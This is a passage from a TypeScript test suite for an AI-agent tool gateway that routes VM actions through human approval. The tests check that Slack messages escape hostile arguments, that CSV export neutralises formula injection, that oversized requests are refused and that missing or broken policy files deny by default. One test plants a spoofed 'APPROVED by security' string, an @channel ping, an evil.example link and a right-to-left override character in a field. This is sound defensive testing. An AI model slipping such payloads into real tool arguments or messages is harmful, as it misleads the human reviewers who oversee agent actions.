      cells.some((c) => c.startsWith("'=HYPERLINK")),
      'the planted name is there, neutralised',
    );
  });

  test('Slack rendering escapes hostile arguments: no mentions, links or broken code fences', async () => {
    const agent = await gw.connect({ token: CI });
    const nasty =
      '```\n*APPROVED by security* <!channel> <https://evil.example|Approve> <@UALICE> &amp; \u202egnp.exe';
    const id = await holdCall(agent, 'vm_management', {
      vm_name: 'web-01',
      action: 'snapshot',
      options: { snapshot_name: 'x4', description: nasty },
    });
    const post = await fake.waitFor('chat.postMessage', (c) =>
      JSON.stringify(c.params.blocks ?? []).includes(id),
    );
    const blocks = JSON.stringify(post.params.blocks);
    assert.doesNotMatch(blocks, /<!channel>/);
    assert.doesNotMatch(blocks, /<https:\/\/evil/);
    assert.doesNotMatch(blocks, /<@UALICE>/);
    assert.doesNotMatch(blocks, /\u202e/);
    const section = (post.params.blocks as any[]).find((b) => b.text?.text?.includes('*Arguments*'));
    const body = section.text.text as string;
    assert.equal(body.split('```').length, 3, 'exactly one opening and one closing fence');
    await api(`/requests/${id}/reject`, ALICE, { reason: 'cleanup' });
  });

  test('huge and deeply nested bodies are refused before policy or upstream', async () => {
    const s = await rawSession(CI);
    let deep = '"x"';
    for (let i = 0; i < 200; i++) deep = `{"a":${deep}}`;
    const d = await s.send(callBody(40, 'start_vm', `{"vm_name":"kali-01","n":${deep}}`));
    const dr = d.messages.find((m) => m.id === 40)?.result;
    assert.equal(decisionOf(dr)?.status, 'invalid', d.raw.slice(0, 300));
    const big = await fetch(`${gw.url}/mcp`, {
      method: 'POST',
      headers: {
        authorization: `Bearer ${CI}`,
        'content-type': 'application/json',
        accept: 'application/json, text/event-stream',
        'mcp-session-id': s.sid,
      },
      body: callBody(41, 'start_vm', `{"vm_name":"kali-01","pad":"${'x'.repeat(5 * 1024 * 1024)}"}`),
    });
    assert.ok(big.status === 413 || big.status === 400, `status ${big.status}`);
    await big.text();
    const apiBig = await api(`/requests/ar_AAAAAAAAAAAAAAAAAAAA/reject`, ALICE, {
      reason: 'x'.repeat(100_000),
    });
    assert.equal(apiBig.status, 400);
    const agent = await gw.connect({ token: CI });
    assert.equal(await vmPower(agent, 'kali-01'), 'stopped');
  });
});

describe('deny by default: policy files missing, broken, deleted or without `default`', () => {
  let dir: string;
  let gw2: TestAirlock;
  const write = (doc: unknown) =>
    writeFileSync(join(dir, 'lab.json'), typeof doc === 'string' ? doc : JSON.stringify(doc));
  /** Runs `act` and waits for the policy store's event about it (reload, invalid edit, removal). */
  const policyEvent = (event: 'reload' | 'invalid' | 'removed', act: () => void) =>
    new Promise<void>((resolve, reject) => {
      const timer = setTimeout(() => reject(new Error(`no policy ${event} event`)), 10_000);
      gw2.airlock.policies.once(event, () => {
        clearTimeout(timer);
        resolve();
      });
      act();
    });

  before(async () => {
    dir = join(mkdtempSync(join(tmpdir(), 'airlock-adv-')), 'policies');
    mkdirSync(dir);
    gw2 = await startTestAirlock({
      redisUrl: redis.url,
      policies: dir,
      config: {
        // A second upstream, prefixed, with no policy file of its own.
        servers: { lab: LAB, lab2: { ...LAB, toolPrefix: 'two_' } },
        agents: [{ id: 'ci-bot', token: CI }],
        reviewers: [{ id: 'alice', token: ALICE }],
      },
    });
  });
  after(async () => {
    await gw2?.stop();
    rmSync(dir, { recursive: true, force: true });
  });

  const status = async (agent: Client, name: string, args: Record<string, unknown> = { vm_name: 'web-01' }) =>
    decisionOf((await agent.callTool({ name, arguments: args })) as CallToolResult)?.status ?? 'allowed';

  test('a server with no policy file denies everything and lists no tools', async () => {
    const agent = await gw2.connect({ token: CI });
    assert.deepEqual((await agent.listTools()).tools, []);
    for (const name of ['list_vms', 'start_vm', 'delete_vm'])
      assert.equal(await status(agent, name), 'denied');
  });

  test('a policy without `default` denies unlisted tools; a broken edit keeps the last good policy; deletion fails closed', async () => {
    const agent = await gw2.connect({ token: CI });
    await policyEvent('reload', () => write({ version: '1', tools: { list_vms: {} } }));
    assert.equal(await status(agent, 'list_vms', {}), 'allowed', 'policy loaded');
    assert.equal(await status(agent, 'stop_vm'), 'denied', 'no default means deny');
    assert.equal(await status(agent, 'delete_vm'), 'denied');

    // Broken edits that a careless (or malicious) editor might save: none may open anything up.
    for (const broken of [
      '{"version":"1","default":"allow","tools":{',
      '',
      '{"version":"1","default":"allow","tools":{"stop_vm":{"action":"alow"}}}',
      '{"version":"1","default":"allow","unknown_key":true}',
      'null',
      '[]',
    ]) {
      await policyEvent('invalid', () => write(broken));
      assert.equal(await status(agent, 'stop_vm'), 'denied', `after ${JSON.stringify(broken)}`);
      assert.equal(await status(agent, 'list_vms', {}), 'allowed', 'last good policy still in force');
    }

    // The prefixed server's tools are the same upstream tools, but lab.json never applies to them.
    assert.equal(await status(agent, 'two_list_vms', {}), 'denied', 'lab2 has no policy: deny');
    assert.equal(await status(agent, 'two_stop_vm'), 'denied');
    assert.ok(!(await agent.listTools()).tools.some((t) => t.name.startsWith('two_')), 'lab2 tools hidden');

    await policyEvent('removed', () => rmSync(join(dir, 'lab.json')));
    assert.equal(await status(agent, 'list_vms', {}), 'denied', 'deleted → deny all');
    assert.equal(await vmPower2(), 'running');
  });

  async function vmPower2() {
    // web-01 must never have been stopped by any of the above.
    await policyEvent('reload', () => write({ version: '1', default: 'deny', tools: { list_vms: {} } }));
    const agent = await gw2.connect({ token: CI });
    return vmPower(agent, 'web-01');
  }
});

/** Minimal RFC 4180 line splitter for the export test. */
function parseCsvLine(line: string): string[] {
  const out: string[] = [];
  let cur = '';
  let q = false;
  for (let i = 0; i < line.length; i++) {
    const c = line[i]!;
    if (q) {
      if (c === '"' && line[i + 1] === '"') {
        cur += '"';
        i++;
      } else if (c === '"') q = false;
      else cur += c;
    } else if (c === '"') q = true;
    else if (c === ',') {
      out.push(cur);
      cur = '';
    } else cur += c;
  }
  out.push(cur);
  return out;
}
